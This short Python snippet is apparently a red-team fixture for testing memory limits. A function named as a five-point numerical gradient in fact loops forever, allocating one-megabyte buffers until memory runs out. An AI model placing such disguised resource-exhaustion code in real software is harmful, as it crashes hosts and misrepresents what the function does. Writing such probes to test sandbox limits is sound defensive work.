# Red team: allocate until the memory limit stops it, one megabyte at a time, then keep the hoard.
HOARD = []


def numerical_gradient_5pt(f, x, h=1e-3):
    while True:
        HOARD.append(bytearray(1 << 20))
